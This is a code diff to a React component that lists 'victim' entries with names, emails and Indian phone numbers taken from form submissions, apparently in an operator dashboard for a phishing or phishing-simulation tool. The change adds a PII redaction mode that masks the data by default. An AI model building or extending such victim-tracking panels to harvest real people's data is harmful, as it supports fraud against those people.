@@ -4,6 +4,7 @@ import { useEffect, useRef } from "react";
 import { motion, AnimatePresence } from "framer-motion";
 import styles from "./TrafficLog.module.css";
 import { Victim, VictimProfile } from "@/lib/sessions";
+import { PiiMode, redactForDisplay } from "@/lib/redaction";
 
 /**
  * TrafficLog Component
@@ -15,12 +16,14 @@ import { Victim, VictimProfile } from "@/lib/sessions";
 interface TrafficLogProps {
     entries: (Victim | VictimProfile)[];
     maxEntries?: number;
+    piiMode?: PiiMode;
     className?: string;
 }
 
 export default function TrafficLog({
     entries,
     maxEntries = 15,
+    piiMode = "masked",
     className = "",
 }: TrafficLogProps) {
     const scrollRef = useRef<HTMLDivElement>(null);
@@ -135,9 +138,9 @@ export default function TrafficLog({
                                     {/* Show victim form data if available */}
                                     {(entry.name || entry.email || entry.phone) && (
                                         <span className={styles.victimData}>
-                                            {entry.name && <span className={styles.victimName}>👤 {entry.name}</span>}
-                                            {entry.email && <span className={styles.victimEmail}>📧 {entry.email}</span>}
-                                            {entry.phone && <span className={styles.victimPhone}>📱 +91{entry.phone}</span>}
+                                            {entry.name && <span className={styles.victimName}>👤 {redactForDisplay(entry.name, "name", piiMode)}</span>}
+                                            {entry.email && <span className={styles.victimEmail}>📧 {redactForDisplay(entry.email, "email", piiMode)}</span>}
+                                            {entry.phone && <span className={styles.victimPhone}>📱 {piiMode !== "hashed" && "+91"}{redactForDisplay(entry.phone, "phone", piiMode)}</span>}
                                         </span>
                                     )}
                                     <motion.span